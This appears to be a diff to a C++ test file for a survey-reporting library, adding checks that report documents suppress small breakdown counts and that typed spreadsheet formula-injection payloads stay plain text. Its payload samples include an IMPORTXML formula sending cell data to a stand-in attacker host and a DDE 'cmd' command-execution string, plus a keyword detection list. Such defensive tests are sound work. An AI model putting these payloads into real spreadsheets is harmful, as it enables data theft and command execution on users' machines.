@@ -13,9 +13,12 @@
 #include <gtest/gtest.h>
 #include <zip.h>
 
+#include <fmt/format.h>
+
+#include <fstream>
 #include <map>
+#include <sstream>
 #include <random>
-#include <regex>
 #include <set>
 
 #include "fixtures.hpp"
@@ -24,6 +27,7 @@
 #include "libreview/pipeline.hpp"
 #include "libreview/report.hpp"
 #include "libreview/report_util.hpp"
+#include "report_fixture.hpp"
 
 namespace fs = std::filesystem;
 using namespace review;
@@ -182,6 +186,78 @@ void expect_no_recoverable_cell(const SuppressedBreakdown& s, int k, const std::
   }
 }
 
+/// The elements `<tag ...>...</tag>` (not nested in each other) of `xml`, in order.
+std::vector<std::string_view> elements(std::string_view xml, std::string_view tag) {
+  std::vector<std::string_view> out;
+  const std::string open = "<" + std::string(tag), close = "</" + std::string(tag) + ">";
+  std::size_t i = 0;
+  while ((i = xml.find(open, i)) != std::string_view::npos) {
+    const char after = i + open.size() < xml.size() ? xml[i + open.size()] : '\0';
+    if (after != '>' && after != ' ' && after != '/') {
+      i += open.size();
+      continue;
+    }
+    const std::size_t gt = xml.find('>', i);
+    if (gt == std::string_view::npos) break;
+    if (xml[gt - 1] == '/') {  // an empty element
+      out.push_back(xml.substr(i, gt + 1 - i));
+      i = gt + 1;
+      continue;
+    }
+    const std::size_t end = xml.find(close, gt);
+    if (end == std::string_view::npos) break;
+    out.push_back(xml.substr(i, end + close.size() - i));
+    i = end + close.size();
+  }
+  return out;
+}
+
+/// The cells' texts of every table row of a WordprocessingML part.
+std::vector<std::vector<std::string>> docx_rows(const std::string& xml) {
+  std::vector<std::vector<std::string>> rows;
+  for (auto tr : elements(xml, "w:tr")) {
+    std::vector<std::string> cells;
+    for (auto tc : elements(tr, "w:tc")) {
+      std::string text;
+      for (auto t : elements(tc, "w:t")) {
+        const auto gt = t.find('>');
+        if (t[gt - 1] != '/') text += std::string(t.substr(gt + 1, t.size() - gt - 1 - 6));
+      }
+      cells.push_back(text);
+    }
+    rows.push_back(std::move(cells));
+  }
+  return rows;
+}
+
+/// In rows labelled by a group or sector (label, counts..., total): no shown count of 1 to k-1,
+/// and not exactly one hidden count beside a shown total. Returns the rows checked.
+std::size_t check_docx_breakdowns(const std::string& xml, int k) {
+  std::size_t checked = 0;
+  for (const auto& row : docx_rows(xml)) {
+    if (row.empty() || (row[0].find("GRPQX") == std::string::npos && row[0].find("SECTQX") == std::string::npos))
+      continue;
+    ++checked;
+    std::size_t hidden = 0;
+    for (std::size_t i = 1; i < row.size(); ++i) {
+      const std::string& v = row[i];
+      if (v == "—") {
+        hidden += i + 1 < row.size() ? 1 : 0;
+        continue;
+      }
+      const bool number = !v.empty() && v.find_first_not_of("0123456789") == std::string::npos;
+      EXPECT_TRUE(number) << "unexpected breakdown cell '" << v << "'";
+      if (number) {
+        const long n = std::stol(v);
+        EXPECT_FALSE(n >= 1 && n < k) << "a breakdown cell of " << n << " answers in row " << row[0];
+      }
+    }
+    const bool total_shown = row.size() > 1 && row.back() != "—";
+    EXPECT_FALSE(total_shown && hidden == 1) << "one hidden cell beside a shown total in row " << row[0];
+  }
+  return checked;
+}
+
 }  // namespace
 
 TEST_F(Privacy, AnonymousViewOverThousandsOfRandomCycles) {
@@ -217,7 +293,7 @@ TEST_F(Privacy, ReportFilesNeverNameARepresentative) {
   const auto writers = department_writers();
   ASSERT_GE(writers.size(), 3U) << "csv, json and xlsx writers must be built";
   const auto profile_default = profile("default");
-  std::size_t straight_lining = 0;
+  std::size_t straight_lining = 0, breakdown_rows = 0;
   for (std::uint64_t seed = 1; seed <= 30; ++seed) {
     const Cycle c = marked_cycle(seed, 30 + seed, 200);
     const Results results = score_cycle(c, random_history(c, seed), profile_default, built_plugins());
@@ -232,17 +308,24 @@ TEST_F(Privacy, ReportFilesNeverNameARepresentative) {
     for (const auto& [name, text] : outputs(files)) {
       SCOPED_TRACE(fmt::format("seed {} {}", seed, name));
       ASSERT_EQ(text.find("REPQX"), std::string::npos) << "a representative id in an output for departments";
-      ASSERT_EQ(text.find("SECTQX"), std::string::npos) << "a breakdown by sector in an output for departments";
-      ASSERT_EQ(text.find("GRPQX"), std::string::npos) << "a breakdown by group in an output for departments";
+      if (name.find(".docx!") != std::string::npos) {
+        // The letters show breakdowns (through AnonymousView): check every row labelled by a group or sector.
+        breakdown_rows += check_docx_breakdowns(text, 5);
+        if (HasFatalFailure()) return;
+      } else {
+        ASSERT_EQ(text.find("SECTQX"), std::string::npos) << "a breakdown by sector in an output for departments";
+        ASSERT_EQ(text.find("GRPQX"), std::string::npos) << "a breakdown by group in an output for departments";
+      }
       ASSERT_EQ(text.find("SITEQX"), std::string::npos) << "a survey site in an output for departments";
       ASSERT_EQ(text.find("诚信核查"), std::string::npos) << "the integrity sheet was not asked for";
     }
     // Nothing else in the folder (no temporary file left behind).
     std::size_t in_dir = 0;
-    for ([[maybe_unused]] const auto& e : fs::directory_iterator(dir)) ++in_dir;
+    for (const auto& e : fs::recursive_directory_iterator(dir)) in_dir += e.is_regular_file() ? 1 : 0;
     EXPECT_EQ(in_dir, files.size());
   }
   EXPECT_GT(straight_lining, 0U) << "the random cycles should hold representative flags";
+  std::printf("[ property ] 30 cycles' report files: %zu breakdown rows in letters checked\n", breakdown_rows);
 }
 
 TEST_F(Privacy, IntegritySheetOnlyWhenAskedFor) {
@@ -297,6 +380,38 @@ const std::vector<std::string> kPayloads = {
     "＠SUM(1)",
     "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
 };
+
+/// An element whose local name is `f` (a SpreadsheetML formula).
+bool has_formula_element(std::string_view xml) {
+  for (std::size_t i = xml.find('<'); i != std::string_view::npos; i = xml.find('<', i + 1)) {
+    std::size_t j = i + 1;
+    while (j < xml.size() && xml[j] != ' ' && xml[j] != '>' && xml[j] != '/') ++j;
+    std::string_view name = xml.substr(i + 1, j - i - 1);
+    if (const auto colon = name.find(':'); colon != std::string_view::npos) name.remove_prefix(colon + 1);
+    if (name == "f") return true;
+  }
+  return false;
+}
+
+bool holds_payload(std::string_view text);
+
+/// `<c:f>'sheet'!$A$1:$B$2</c:f>` (or one cell), the sheet name free of typed payloads.
+bool is_cell_reference(std::string_view element) {
+  const auto gt = element.find('>');
+  const auto lt = element.rfind('<');
+  if (gt == std::string_view::npos || lt <= gt) return false;
+  const std::string_view ref = element.substr(gt + 1, lt - gt - 1);
+  const auto bang = ref.rfind('!');
+  if (bang == std::string_view::npos || holds_payload(ref.substr(0, bang))) return false;
+  const std::string_view cells = ref.substr(bang + 1);
+  return !cells.empty() && cells.find_first_not_of("$ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:") == std::string_view::npos;
+}
+
+bool holds_payload(std::string_view text) {
+  for (std::string_view p : {"cmd", "DDE", "HYPERLINK", "IMPORTXML", "SUM("})
+    if (text.find(p) != std::string_view::npos) return true;
+  return false;
+}
 
 /// Puts a payload (cycling through the list) at the start of every text a person typed.
 Cycle injected_cycle(std::uint64_t seed) {
@@ -364,8 +479,15 @@ TEST_F(Privacy, FormulaPayloadsInEveryTextFieldStayText) {
           }
         } else if (name.ends_with(".xml") || name.ends_with(".rels")) {
           ++xml_parts;
-          static const std::regex formula("<(\\w+:)?f[ >/]");
-          ASSERT_FALSE(std::regex_search(text, formula)) << "a formula element in the workbook";
+          if (name.find("!xl/charts/") != std::string::npos) {
+            // A chart's series name their cells (`<c:f>'统计'!$A$4:$A$7</c:f>`): references, never typed text.
+            for (auto f : elements(text, "c:f")) ASSERT_TRUE(is_cell_reference(f)) << f;
+          } else {
+            ASSERT_FALSE(has_formula_element(text)) << "a formula element in the workbook";
+          }
+          // Word fields are the documents' formulas (DDEAUTO, HYPERLINK): none may hold typed text.
+          for (auto f : elements(text, "w:instrText")) ASSERT_FALSE(holds_payload(f)) << f;
+          for (auto f : elements(text, "w:fldSimple")) ASSERT_FALSE(holds_payload(f.substr(0, f.find('>')))) << f;
         } else if (name.ends_with(".json")) {
           // JSON has no formulas; the typed text must arrive unchanged (escaped as JSON).
           ASSERT_NE(text.find("=cmd|' /C calc'!A0"), std::string::npos);
